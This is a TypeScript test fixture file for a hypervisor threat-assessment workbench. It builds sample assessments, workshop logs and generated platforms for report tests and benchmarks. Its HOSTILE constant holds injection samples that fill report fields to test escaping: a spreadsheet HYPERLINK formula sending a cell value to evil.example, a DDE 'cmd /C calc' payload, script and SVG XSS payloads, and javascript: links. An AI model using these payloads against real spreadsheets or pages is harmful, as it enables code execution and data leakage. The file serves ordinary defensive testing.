/**
 * Report fixtures for tests and benchmarks (never imported by the app): the KVM/libvirt
 * template with a recorded assessment full of hostile and non-Latin text, and a generated
 * platform of any size with statuses spread over its items.
 */
import kvmTemplate from '../../threat-catalog/templates/kvm-libvirt.json';
import { loadBundledCatalog } from '../domain/catalog/catalogSource';
import type { Catalog } from '../domain/catalog/parseCatalog';
import { DocumentSchema, assessmentKey, type AssessmentEntry, type WorkbenchDocument } from '../domain/model/schema';
import { assess } from '../domain/rules/assess';
import type { Assessment } from '../domain/rules/types';
import { generateBundledPlatform } from './fixtures/generatePlatform';
import { generateBenchPlatform } from './fixtures/benchPlatform';
import { endWorkshop, recordLogEntry, setPrivateNote, startWorkshop } from '../domain/workshop/workshopOps';
import { buildReport } from '../domain/report/buildReport';
import type { ReportModel } from '../domain/report/reportModel';
import { emptyAssessmentEntry } from '../domain/checklist/assessmentOps';

export const FIXTURE_TIME = '2026-11-28T12:00:00Z';

/** Text an attacker might type: formulas, markup, links, script, control characters, Unicode. */
export const HOSTILE = {
  formula: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  plus: "+cmd|' /C calc'!A0",
  at: '@SUM(1+1)*cmd',
  markup: '<script>alert(1)</script> <img src=x onerror=alert(2)>',
  link: '[click](javascript:alert(3)) ![x](http://evil.example/p.png)',
  svg: '</text><svg onload="alert(4)"><text>',
  unicode: '≤ Контроль 検証 — “quoted”',
  control: 'bell\u0007 and nul\u0000 end',
} as const;

export interface ReportFixture {
  document: WorkbenchDocument;
  catalog: Catalog;
  assessment: Assessment;
  model: ReportModel;
}

function entry(
  recommendationId: string,
  scope: string,
  status: AssessmentEntry['status'],
  extra: Partial<AssessmentEntry> = {},
): AssessmentEntry {
  return { ...emptyAssessmentEntry(recommendationId, scope, FIXTURE_TIME), status, ...extra };
}

/** Assigns statuses to the applicable items of `document` in a fixed rotation. */
function withStatuses(document: WorkbenchDocument, catalog: Catalog, hostile: boolean): WorkbenchDocument {
  const applicable = assess(document, catalog).checklist.filter((i) => i.applicability === 'applicable');
  const assessment: Record<string, AssessmentEntry> = {};
  const rotation = [
    'implemented',
    'not-implemented',
    'partially-implemented',
    'risk-accepted',
    'not-reviewed',
    'implemented',
  ] as const;
  applicable.forEach((item, i) => {
    const status = rotation[i % rotation.length]!;
    const text = hostile ? Object.values(HOSTILE)[i % Object.values(HOSTILE).length]! : `Reviewed item ${i}`;
    assessment[assessmentKey(item.recommendationId, 'platform')] = entry(item.recommendationId, 'platform', status, {
      justification: `Justification ${i}: ${text}`,
      owner: i % 2 === 0 ? `Owner ${text}`.slice(0, 200) : 'Platform team',
      dueDate: status === 'implemented' ? '' : `2027-0${1 + (i % 9)}-15`,
      evidence: [
        {
          id: `ev${i}`,
          kind: i % 3 === 0 ? 'link' : 'note',
          text: i % 3 === 0 ? 'javascript:alert(1)' : `Evidence ${text}`,
          addedAt: FIXTURE_TIME,
        },
      ],
      ...(status === 'risk-accepted' ? { approver: 'CISO', approvedAt: '2026-11-01', expiresAt: '2027-06-30' } : {}),
    });
  });
  // One per-component record, so component-scoped rendering is exercised.
  const first = applicable[1];
  const component = first?.components[0];
  if (first && component) {
    assessment[assessmentKey(first.recommendationId, component)] = entry(
      first.recommendationId,
      component,
      'partially-implemented',
      {
        justification: `Per component: ${HOSTILE.unicode}`,
        owner: 'Ops',
        dueDate: '2027-02-01',
        comments: `Component comment ${HOSTILE.formula}`,
        verifiedBy: 'Component verifier',
        verifiedAt: '2026-11-20',
      },
    );
  }
  return { ...document, assessment };
}

/** The KVM/libvirt template with a hostile, Unicode-rich assessment recorded. */
export function kvmReportFixture(): ReportFixture {
  const catalog = loadBundledCatalog();
  const base = DocumentSchema.parse(kvmTemplate);
  const named: WorkbenchDocument = {
    ...base,
    name: `KVM ${HOSTILE.unicode} =cmd`,
    scope: {
      assessor: `A. Assessor ${HOSTILE.markup}`,
      organisation: 'Example Org ≤ Контроль',
      description: `${base.scope.description}\n${HOSTILE.link}`,
      assumptions: `${base.scope.assumptions}\n${HOSTILE.formula}`,
    },
    components: {
      ...base.components,
      'vm-web': { ...base.components['vm-web']!, name: `web-01 ${HOSTILE.svg}` },
    },
  };
  const document = withStatuses(named, catalog, true);
  const assessment = assess(document, catalog);
  const model = buildReport(document, catalog, assessment, {
    generatedAt: FIXTURE_TIME,
    generator: 'Hypervisor Threat Workbench test',
  });
  return { document, catalog, assessment, model };
}

/** `document` with one ended workshop (decision, action, question, hostile text, a private note). */
export function withEndedWorkshop(document: WorkbenchDocument, catalog: Catalog): WorkbenchDocument {
  const people = [
    { id: 'p1', name: 'Ana Facilitator', role: 'facilitator' as const },
    { id: 'p2', name: `Bo ${HOSTILE.unicode}`, role: 'participant' as const },
  ];
  const agenda = [
    {
      id: 's1',
      kind: 'baseline-function' as const,
      baselineFunctionId: 'HY-BF2',
      title: 'Devices',
      timeboxMinutes: 30,
      spentSeconds: 0,
      items: ['HY-SR-6C'],
    },
  ];
  let doc = startWorkshop(
    document,
    { id: 'w1', title: 'Device mediation review', participants: people, agenda },
    '2026-11-20T10:00:00Z',
  );
  doc = recordLogEntry(
    doc,
    'w1',
    {
      id: 'l1',
      kind: 'decision',
      text: `IOMMU on for all hosts ${HOSTILE.markup}`,
      by: 'p2',
      itemId: 'HY-SR-6C',
      status: 'partially-implemented',
      owner: 'Ops',
      dueDate: '2027-01-31',
    },
    '2026-11-20T10:05:00Z',
  );
  doc = recordLogEntry(
    doc,
    'w1',
    {
      id: 'l2',
      kind: 'action',
      text: 'Check VFIO groups on kvm-node-01',
      by: 'p1',
      itemId: 'HY-SR-6C',
      owner: 'Ops',
      dueDate: '2027-01-15',
    },
    '2026-11-20T10:10:00Z',
  );
  doc = recordLogEntry(
    doc,
    'w1',
    { id: 'l3', kind: 'question', text: `Is SR-IOV used? ${HOSTILE.formula}`, by: 'p2' },
    '2026-11-20T10:12:00Z',
  );
  doc = setPrivateNote(doc, 'w1', 's1', 'PRIVATE facilitator note', '2026-11-20T10:20:00Z');
  return endWorkshop(doc, 'w1', catalog, '2026-11-20T10:45:00Z');
}

/** The KVM fixture with an ended workshop recorded. */
export function kvmWorkshopFixture(): ReportFixture {
  const { document, catalog } = kvmReportFixture();
  const withWorkshop = withEndedWorkshop(document, catalog);
  const assessment = assess(withWorkshop, catalog);
  const model = buildReport(withWorkshop, catalog, assessment, { generatedAt: FIXTURE_TIME });
  return { document: withWorkshop, catalog, assessment, model };
}

/**
 * The benchmarks' generated platform (src/test/fixtures/benchPlatform.ts, the one generator
 * every benchmark uses: about 2 connections per component, VMs nested in hosts) with statuses
 * spread over its items, as the PDF benchmarks assess it.
 */
export function benchReportFixture(size = 200): ReportFixture {
  const catalog = loadBundledCatalog();
  const generated = generateBenchPlatform({
    size,
    catalog: { id: catalog.id, version: catalog.version },
    id: `benchreport${size}`,
    name: `Generated platform (${size} components)`,
  });
  const document = withStatuses(generated, catalog, false);
  const assessment = assess(document, catalog);
  const model = buildReport(document, catalog, assessment, { generatedAt: FIXTURE_TIME });
  return { document, catalog, assessment, model };
}

/** A generated platform of `size` components (laid out by the report, as it has no positions). */
export function largeReportFixture(size = 200): ReportFixture {
  const catalog = loadBundledCatalog();
  const generated = generateBundledPlatform(size);
  // The generator cuts its last block at `size`; drop connections to the components cut off,
  // so the fixture is a document the app would import.
  const connections = Object.fromEntries(
    Object.entries(generated.connections).filter(
      ([, c]) => c.source in generated.components && c.target in generated.components,
    ),
  );
  const document = withStatuses(
    { ...generated, connections, name: `Generated platform (${size} components)` },
    catalog,
    false,
  );
  const assessment = assess(document, catalog);
  const model = buildReport(document, catalog, assessment, { generatedAt: FIXTURE_TIME });
  return { document, catalog, assessment, model };
}
